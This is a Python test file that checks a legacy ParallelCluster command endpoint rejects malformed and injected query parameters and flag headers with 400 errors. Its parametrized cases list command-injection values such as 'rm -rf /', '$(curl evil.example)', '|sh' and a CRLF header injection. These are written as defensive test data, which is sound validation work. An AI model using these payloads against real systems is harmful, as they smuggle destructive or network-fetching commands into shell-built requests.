"""The 2020 post's form, POST /pcluster?command=...&cluster_name=..., mapped onto the /v3 operations,
and every injection the original let through refused with 400 before anything runs."""
from __future__ import annotations

import base64
import json

import pytest

from lambda_src.parallelcluster_api import models
from tests.parallelcluster_api import fake_pcluster as fake_lib
from tests.parallelcluster_api.conftest import ALICE, BOB, CONFIGURATION, INI_CONFIGURATION, assert_model, call


def encoded(text: str) -> str:
    """The body curl sends for --data-binary "$(base64 file)": base64 in lines of 76 characters."""
    return base64.encodebytes(text.encode("utf-8")).decode("ascii").rstrip("\n")


def legacy(command: str | None, cluster_name: str | None = "cluster1", *, flags: str | None = None,
           body: str | None = None, headers: dict | None = None, **options):
    query = {key: value for key, value in (("command", command), ("cluster_name", cluster_name)) if value is not None}
    headers = {**({"additional_parameters": flags} if flags is not None else {}), **(headers or {})}
    return call("legacy_pcluster", query=query, headers=headers, raw_body=body, **options)


def test_create_starts_the_same_operation_as_post_v3_clusters(world):
    answer = legacy("create", flags="--nowait", body=encoded(CONFIGURATION))
    assert answer.status == 202
    assert_model(models.ClusterOperationAcceptedResponseContent, answer.body)
    (execution,) = world.executions()
    assert json.loads(execution["input"])["operation"] == "CREATE_CLUSTER"
    assert world.operation(answer.body["operationId"])["configuration"] == CONFIGURATION


def test_create_flags_become_the_options_of_the_operation(world):
    answer = legacy("create", flags="-nw --norollback --validation-failure-level=WARNING "
                                    "--suppress-validators type:KeyPairValidator ALL", body=encoded(CONFIGURATION))
    assert world.operation(answer.body["operationId"])["parameters"] == {
        "rollbackOnFailure": False, "validationFailureLevel": "WARNING",
        "suppressValidators": ["type:KeyPairValidator", "ALL"]}


def test_create_with_the_dryrun_flag_answers_as_a_v3_dry_run(fast_workflow):
    answer = legacy("create", flags="--dryrun true", body=encoded(CONFIGURATION))
    assert answer.status == 412


def test_create_of_a_pcluster_2_ini_configuration_points_to_the_converter(world):
    answer = legacy("create", body=encoded(INI_CONFIGURATION))
    assert answer.status == 400
    assert "pcluster3-config-converter --config-file" in answer.body["message"]
    assert world.executions() == []


def test_create_with_a_body_that_is_not_base64_is_refused_with_400(world):
    answer = legacy("create", body=CONFIGURATION)
    assert (answer.status, answer.body) == (400, {"message": 'request body must be the configuration '
                                                             'base64-encoded, as in curl --data-binary '
                                                             '"$(base64 cluster-config.yaml)"'})


def test_create_without_a_body_is_refused_with_400(world):
    assert legacy("create").body == {"message": "request body is required"}


def test_create_of_a_configuration_over_the_size_limit_is_refused_with_400(world):
    answer = legacy("create", body=encoded("Comment: " + "x" * (128 * 1024)))
    assert (answer.status, answer.body) == (400, {"message": "the configuration must be at most 131072 bytes"})


def test_status_answers_describe_cluster(world):
    world.own("cluster1", ALICE)
    answer = legacy("status", flags="--nowait", body=encoded(CONFIGURATION))
    assert answer.status == 200
    assert_model(models.DescribeClusterResponseContent, answer.body)


def test_status_of_another_users_cluster_is_a_404(world):
    world.own("cluster1", BOB)
    answer = legacy("status")
    assert (answer.status, answer.body) == (404, {"message": fake_lib.NOT_FOUND.format("cluster1")})


def test_list_answers_the_callers_clusters(world):
    world.own("cluster1", ALICE)
    world.own("cluster2", BOB)
    answer = legacy("list", None, flags="--color")
    assert answer.status == 200
    assert [cluster["clusterName"] for cluster in answer.body["clusters"]] == ["cluster1"]


def test_delete_starts_the_same_operation_as_delete_v3_clusters(world):
    world.own("cluster1", ALICE)
    answer = legacy("delete", flags="--nowait")
    assert (answer.status, answer.body["operation"]) == (202, "DELETE_CLUSTER")


@pytest.mark.parametrize(("command", "scheduler", "status"), [
    ("start", "slurm", "START_REQUESTED"), ("stop", "slurm", "STOP_REQUESTED"),
    ("start", "awsbatch", "ENABLED"), ("stop", "awsbatch", "DISABLED"),
])
def test_start_and_stop_update_the_compute_fleet_as_the_scheduler_means_it(world, command, scheduler, status):
    world.own("cluster1", ALICE, scheduler=scheduler)
    answer = legacy(command)
    assert (answer.status, answer.body["status"]) == (200, status)
    assert world.fake.called("update_compute_fleet")[0]["status"] == status


@pytest.mark.parametrize("cluster_name", [
    "cluster1;rm -rf /", "cluster1 && curl evil.example", "$(id)", "`id`", "cluster1\nrm", "cluster1\n",
    "--help", "-nw", "cluster1|sh", "../cluster1", "cluster1\u200b",
])
def test_an_injection_in_cluster_name_is_refused_with_400_before_anything_runs(world, cluster_name):
    answer = legacy("create", cluster_name, body=encoded(CONFIGURATION))
    assert answer.status == 400
    assert answer.body["message"].startswith("query parameter cluster_name ")
    assert world.fake.calls == [] and world.executions() == []


@pytest.mark.parametrize(("flags", "message"), [
    ("--nowait; rm -rf /", "additional_parameters holds ';', a character no allowed flag takes"),
    ("--nowait $(curl evil.example)", "additional_parameters holds '$', a character no allowed flag takes"),
    ("--nowait `id`", "additional_parameters holds '`', a character no allowed flag takes"),
    ("--nowait | sh", "additional_parameters holds '|', a character no allowed flag takes"),
    ("--nowait\n--norollback", "header parameter additional_parameters holds a control or invisible character"),
    ("--nowait\r\nX-Injected: 1", "header parameter additional_parameters holds a control or invisible character"),
    ("--region 'us-east-1'", "additional_parameters holds \"'\", a character no allowed flag takes"),
    ("-- --template-url", "additional_parameters: unknown flag '--'; allowed for create: --nowait, -nw, "
                          "--norollback, -nr, --rollback-on-failure, --dryrun, --validation-failure-level, "
                          "--suppress-validators, --region, -r"),
    ("--template-url=https:", "additional_parameters: unknown flag '--template-url' (ParallelCluster 3 builds its "
                              "own template); allowed for create: --nowait, -nw, --norollback, -nr, "
                              "--rollback-on-failure, --dryrun, --validation-failure-level, --suppress-validators, "
                              "--region, -r"),
    ("--exec", "additional_parameters: unknown flag '--exec'; allowed for create: --nowait, -nw, --norollback, -nr, "
               "--rollback-on-failure, --dryrun, --validation-failure-level, --suppress-validators, --region, -r"),
    ("--nowait extra", "additional_parameters: unknown flag 'extra'; allowed for create: --nowait, -nw, "
                       "--norollback, -nr, --rollback-on-failure, --dryrun, --validation-failure-level, "
                       "--suppress-validators, --region, -r"),
    ("--nowait=--exec", "additional_parameters: --nowait takes no value"),
    ("--color", "additional_parameters: --color does not apply to create"),
    ("--dryrun", "additional_parameters: --dryrun needs a value"),
    ("--dryrun --norollback", "additional_parameters: --dryrun needs a value"),
    ("--dryrun maybe", "additional_parameters: --dryrun takes true or false, got 'maybe'"),
    ("--dryrun true --dryrun=false", "additional_parameters: dryrun is set twice"),
    ("--validation-failure-level NONE", "additional_parameters: --validation-failure-level takes one of INFO, "
                                        "WARNING, ERROR, got 'NONE'"),
    ("--suppress-validators type:", "additional_parameters: --suppress-validators takes ALL or "
                                    "type:<ValidatorName>, got 'type:'"),
    ("--region eu-west-1", "additional_parameters: --region must be us-east-1, the region this API manages"),
    ("-r us-east-1.evil", "additional_parameters: -r takes a region name, got 'us-east-1.evil'"),
    ("--nowait " * 200, "header parameter additional_parameters may have at most 1024 characters, got 1800"),
])
def test_an_injection_or_unknown_flag_in_additional_parameters_is_refused_with_400(world, flags, message):
    answer = legacy("create", flags=flags, body=encoded(CONFIGURATION))
    assert (answer.status, answer.body) == (400, {"message": message})
    assert world.fake.calls == [] and world.executions() == []


def test_additional_parameters_sent_twice_is_refused_with_400(world):
    answer = legacy("create", body=encoded(CONFIGURATION), headers={"additional_parameters": ["--nowait", "-nr"]})
    assert (answer.status, answer.body) == (400, {"message": "header additional_parameters may be sent once"})


def test_a_flag_that_does_not_apply_to_the_command_is_refused_with_400(world):
    world.own("cluster1", ALICE)
    answer = legacy("status", flags="--norollback")
    assert (answer.status, answer.body) == (400, {"message": "additional_parameters: --norollback does not apply "
                                                             "to status"})


@pytest.mark.parametrize(("query", "message"), [
    ({"command": "configure", "cluster_name": "cluster1"}, "query parameter command must be one of create, status, "
                                                           "delete, list, start, stop, got 'configure'"),
    ({"cluster_name": "cluster1"}, "query parameter command is required"),
    ({"command": "status"}, "query parameter cluster_name is required for status"),
    ({"command": "status", "cluster_name": "cluster1", "debug": "1"}, "unknown query parameter 'debug' (this route "
                                                                      "takes: cluster_name, command)"),
])
def test_a_malformed_legacy_query_is_refused_with_400(world, query, message):
    answer = call("legacy_pcluster", query=query)
    assert (answer.status, answer.body) == (400, {"message": message})
